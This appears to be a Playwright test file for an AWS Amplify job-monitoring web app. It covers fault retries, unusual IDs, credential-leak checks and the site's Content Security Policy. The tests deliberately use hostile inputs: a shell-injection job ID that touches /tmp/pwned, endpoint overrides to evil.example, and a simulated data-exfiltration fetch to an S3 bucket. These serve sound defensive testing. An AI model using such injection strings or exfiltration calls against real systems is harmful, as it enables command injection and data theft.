import type { Page, Request } from '@playwright/test';
import { expect, fact, jobStatus, recordRequests, serveConfig, test } from './fixtures';
import { createUser, signInConfig, signInDialog, submitCredentials, test as signInTest } from './signInFixtures';
import { SIM_ORIGIN } from './simConfig';
import { jobPagePath } from '../src/shared/domain/jobRoutes';

test.describe('faults from AWS or in between', () => {
  for (const status of [503, 504]) {
    test(`HTTP ${status} is service trouble, retried until it passes`, async ({ simulatedAccount: page, sim }) => {
      // Two faults in a row keep the retry notice up for a whole second attempt, so a busy machine cannot miss it.
      const fault = { type: 'http', status, errorType: 'ServiceUnavailableException', message: 'Service busy' } as const;
      const job = await sim.createJob({ faults: [fault, fault] });
      await page.goto(job.path);
      await expect(page.getByText(`The AmplifyBackend service is having trouble (HTTP ${status})`)).toBeVisible();
      await expect(page.getByText(/retrying in \d+ s/)).toBeVisible();
      await expect(jobStatus(page)).toContainText('RUNNING');
    });
  }

  test('a response that never finishes times out after 15 s and is retried', async ({ simulatedAccount: page, sim }) => {
    test.setTimeout(90_000);
    // Two hung answers in a row keep the notice up for a whole second attempt, so a busy machine cannot miss it.
    const job = await sim.createJob({ faults: [{ type: 'hang' }, { type: 'hang' }] });
    await page.goto(job.path);
    await expect(page.getByText('AWS did not answer in time')).toBeVisible({ timeout: 30_000 });
    await expect(page.getByText('No answer within 15 seconds.')).toBeVisible();
    await expect(jobStatus(page)).toContainText('RUNNING', { timeout: 40_000 });
  });

  test('a 200 with none of the job fields is reported, not shown as an empty job', async ({ simulatedAccount: page, sim }) => {
    // Three such answers in a row keep the notice up across retries, so a busy machine cannot miss it.
    const odd = { type: 'body', status: 200, body: '{"unexpected":true}' } as const;
    const job = await sim.createJob({ faults: [odd, odd, odd] });
    await page.goto(job.path);
    await expect(page.getByText('The answer could not be read as a job')).toBeVisible();
    await expect(page.getByText('The response had none of the fields of a backend job.')).toBeVisible();
    await expect(jobStatus(page)).toContainText('RUNNING');
  });
});

test.describe('hostile or odd input', () => {
  test('IDs with /, %, +, spaces and unicode travel as one segment each and reach exactly that job', async ({
    simulatedAccount: page,
    sim,
  }) => {
    const odd = await sim.createJob({ appId: 'app/with%slash', envName: 'dev + test', jobId: 'jöb id/..%2F✓' });
    // A near neighbour that a mis-encoded request could reach instead.
    await sim.createJob({ appId: 'app', envName: 'with%slash', jobId: 'jöb id', steps: [{ status: 'FAILED', atMs: 0 }] });
    await page.goto(jobPagePath({ appId: odd.appId, envName: odd.envName, jobId: odd.jobId }));
    await expect(jobStatus(page)).toContainText('RUNNING');
    await expect(fact(page, 'Job ID')).toContainText('jöb id/..%2F✓');
    await expect(fact(page, 'App ID')).toContainText('app/with%slash');
    expect(await sim.count({ operation: 'GetBackendJob', jobId: odd.jobId })).toBeGreaterThan(0);
  });

  test('a 200 KB error message stays readable: collapsed, complete on request, no horizontal overflow', async ({
    simulatedAccount: page,
    sim,
  }) => {
    const long = `Stack failed: ${'x'.repeat(120)} ${'CREATE_FAILED AWS::Lambda::Function resource handler returned message. '.repeat(2900)}<b>end</b>`;
    expect(long.length).toBeGreaterThan(200_000);
    const job = await sim.createJob({ steps: [{ status: 'FAILED', atMs: 0 }], error: long });
    await page.goto(job.path);
    await expect(page.getByText('The job reported an error')).toBeVisible();
    const showAll = page.getByRole('button', { name: /Show all \(/ });
    await expect(showAll).toBeVisible();
    await showAll.click();
    await expect(page.getByRole('button', { name: 'Show less' })).toBeVisible();
    await expect(page.locator('.job-error')).toContainText('<b>end</b>');
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    expect(overflow).toBeLessThanOrEqual(0);
  });

  test('a render error shows a recovery screen, never a white page', async ({ simulatedAccount: page, sim }) => {
    const job = await sim.createJob();
    // A browser API that fails while the page draws the job's times.
    await page.addInitScript(() => {
      // `format` is a getter on the prototype: replace the getter, not the value.
      Object.defineProperty(Intl.DateTimeFormat.prototype, 'format', {
        configurable: true,
        get: () => () => {
          throw new Error('Date formatting is unavailable');
        },
      });
      Date.prototype.toLocaleString = () => {
        throw new Error('Date formatting is unavailable');
      };
    });
    await page.goto(job.path);
    await expect(page.getByRole('heading', { name: 'Something broke on this page' })).toBeVisible();
    await expect(page.getByText('Date formatting is unavailable')).toBeVisible();
    await expect(page.getByRole('button', { name: 'Reload the page' })).toBeVisible();
    await expect(page.getByRole('link', { name: 'Amplify Job Watch' })).toBeVisible();
  });

  test('a job link whose ID would break out of shell quoting gets no CLI command, only the IDs on their own', async ({
    simulatedAccount: page,
    sim,
  }) => {
    test.setTimeout(120_000);
    const jobId = "\\';touch /tmp/pwned;#";
    const job = await sim.createJob({ jobId });
    await page.goto(`/apps/${job.appId}/environments/staging/jobs/%5C'%3Btouch%20%2Ftmp%2Fpwned%3B%23`);
    await expect(page.getByRole('heading', { level: 1 })).toContainText(jobId);
    const cli = page.getByRole('region', { name: 'AWS CLI and raw response' });
    await cli.getByText('AWS CLI command').click();
    await expect(cli.locator('p').first()).toContainText('These IDs are unusual (Job ID holds characters other than');
    await expect(cli.getByRole('button', { name: 'Copy as AWS CLI command' })).toHaveCount(0);
    await expect(cli.locator('dd pre')).toHaveText([job.appId, 'staging', jobId, 'us-east-1']);
    await expect(cli).not.toContainText('get-backend-job --');
  });

  test('nothing in the URL changes where requests go', async ({ simulatedAccount: page, sim, requests }) => {
    const job = await sim.createJob();
    await page.goto(`${job.path}?endpoint=https://evil.example&amplifyBackendEndpoint=https://evil.example&identityPoolId=x`);
    await expect(jobStatus(page)).toContainText('RUNNING');
    const hosts = new Set(requests.offOrigin().map((request) => new URL(request.url()).host));
    expect([...hosts].filter((host) => host.includes('evil'))).toEqual([]);
  });
});

test('no credentials or tokens end up in the URL, the console or localStorage', async ({ simulatedAccount: page, sim }) => {
  const logs: string[] = [];
  page.on('console', (message) => logs.push(message.text()));
  const secrets = recordSecrets(page);
  const job = await sim.createJob();
  await page.goto(job.path);
  await expect(jobStatus(page)).toContainText('RUNNING');
  await page.reload();
  await expect(jobStatus(page)).toContainText('RUNNING');
  const storage = await page.evaluate(() => JSON.stringify({ ...window.localStorage }));
  for (const text of [page.url(), storage, ...logs]) {
    expect(text).not.toMatch(/ASIA[A-Z2-7]{16}/);
    expect(text.toLowerCase()).not.toContain('sessiontoken');
    expect(text.toLowerCase()).not.toContain('secretkey');
  }
  // The actual values the simulated AWS handed out, wherever they could leak.
  expect(secrets.aws.length).toBeGreaterThanOrEqual(2);
  await expectNowhere(page, secrets, secrets.aws, logs, { sessionStorage: true });
});

signInTest(
  'signed in: no AWS credentials or user pool tokens leak to the URL, the console, storage or a non-AWS host',
  async ({ page, sim, request }, testInfo) => {
    signInTest.setTimeout(120_000);
    const logs: string[] = [];
    page.on('console', (message) => logs.push(message.text()));
    const secrets = recordSecrets(page);
    await serveConfig(page, signInConfig());
    const user = await createUser(request, testInfo.workerIndex);
    const job = await sim.createJob();
    await page.goto(job.path);
    await expect(signInDialog(page)).toBeVisible();
    await submitCredentials(page, user);
    await expect(jobStatus(page)).toContainText('RUNNING');
    await page.reload();
    await expect(jobStatus(page)).toContainText('RUNNING');

    expect(secrets.aws.length).toBeGreaterThanOrEqual(2);
    expect(secrets.userPool.length).toBeGreaterThanOrEqual(3);
    // AWS credentials live in memory only; the user pool's tokens in this tab's sessionStorage (tokenStorage "session"), nowhere else.
    await expectNowhere(page, secrets, secrets.aws, logs, { sessionStorage: true });
    await expectNowhere(page, secrets, secrets.userPool, logs, { sessionStorage: false });
    expect(logs.join('\n')).not.toContain(user.password);
  },
);

interface Secrets {
  /** Secret access keys and session tokens from GetCredentialsForIdentity. */
  aws: string[];
  /** Access, ID and refresh tokens from the user pool. */
  userPool: string[];
  /** Every request the page sent, to check where the values went. */
  requests: Request[];
}

/** Collects the secret values the simulated AWS hands the page, read off its answers. */
function recordSecrets(page: Page): Secrets {
  const secrets: Secrets = { aws: [], userPool: [], requests: recordRequests(page).all };
  page.on('response', (response) => {
    const target = response.request().headers()['x-amz-target'] ?? '';
    if (new URL(response.url()).origin !== SIM_ORIGIN || !target) return;
    void response
      .json()
      .then((body: { Credentials?: Record<string, string>; AuthenticationResult?: Record<string, string> }) => {
        const credentials = body.Credentials;
        if (credentials?.SecretKey) secrets.aws.push(credentials.SecretKey);
        if (credentials?.SessionToken) secrets.aws.push(credentials.SessionToken);
        const tokens = body.AuthenticationResult;
        for (const key of ['AccessToken', 'IdToken', 'RefreshToken']) if (tokens?.[key]) secrets.userPool.push(tokens[key]);
      })
      .catch(() => undefined);
  });
  return secrets;
}

/**
 * None of `values` in the URL, the console, localStorage (and sessionStorage unless the value may
 * live there), or anything sent anywhere but the simulated AWS: URLs, headers and bodies.
 */
async function expectNowhere(
  page: Page,
  secrets: Secrets,
  values: string[],
  logs: string[],
  where: { sessionStorage: boolean },
): Promise<void> {
  const places: [string, string][] = [
    ['the URL', page.url()],
    ['the console', logs.join('\n')],
    ['localStorage', await page.evaluate(() => JSON.stringify({ ...window.localStorage }))],
  ];
  if (where.sessionStorage) {
    places.push(['sessionStorage', await page.evaluate(() => JSON.stringify({ ...window.sessionStorage }))]);
  }
  for (const request of secrets.requests) {
    if (new URL(request.url()).origin === SIM_ORIGIN) continue;
    places.push([
      `a request to ${request.url()}`,
      `${request.url()} ${JSON.stringify(request.headers())} ${request.postData() ?? ''}`,
    ]);
  }
  for (const value of values) {
    for (const [place, text] of places) expect(text.includes(value), `a secret value in ${place}`).toBe(false);
  }
}

test.describe('the policy the site is served with', () => {
  test('CSP: scripts from the site only, no framing, connections only to the listed AWS hosts; no source map references', async ({
    page,
    request,
  }) => {
    const response = await page.goto('/');
    const header = response?.headers()['content-security-policy'] ?? '';
    const directives = new Map(header.split('; ').map((part) => [part.split(' ')[0], part.split(' ').slice(1)] as const));
    expect(directives.get('script-src')).toEqual(["'self'"]);
    expect(directives.get('frame-ancestors')).toEqual(["'none'"]);
    expect(header).not.toContain('unsafe-');
    const connect = directives.get('connect-src') ?? [];
    expect(connect).toContain('https://amplifybackend.eu-west-1.amazonaws.com');
    expect(connect).toContain('https://cognito-identity.us-east-1.amazonaws.com');
    expect(connect).toContain('https://cognito-idp.ap-southeast-2.amazonaws.com');
    expect(connect).not.toContain('https://*.amazonaws.com');
    expect(connect.filter((source) => source.includes('*'))).toEqual([]);
    expect(response?.headers()['strict-transport-security']).toBe('max-age=31536000; includeSubDomains');
    // The page carries the same policy as a meta element (minus frame-ancestors, which only a header can carry).
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(meta).toBe(header.replace("; frame-ancestors 'none'", ''));

    // Someone's S3 bucket is not reachable, even by a script running in the page.
    let reached = 0;
    await page.route('https://bucket.s3.amazonaws.com/**', (route) => {
      reached += 1;
      return route.fulfill({ status: 200, body: 'stolen' });
    });
    const outcome = await page.evaluate(() =>
      fetch('https://bucket.s3.amazonaws.com/collect', { method: 'POST', body: 'x' }).then(
        () => 'sent',
        () => 'blocked',
      ),
    );
    expect(outcome).toBe('blocked');
    expect(reached).toBe(0);

    // Source maps are written but not referenced from the bundles.
    for (const src of await page
      .locator('script[src]')
      .evaluateAll((scripts) => scripts.map((s) => (s as HTMLScriptElement).src))) {
      const body = await (await request.get(src)).text();
      expect(body, src).not.toContain('sourceMappingURL');
      expect((await request.get(`${src}.map`)).status(), `${src}.map`).toBe(200);
    }
  });
});
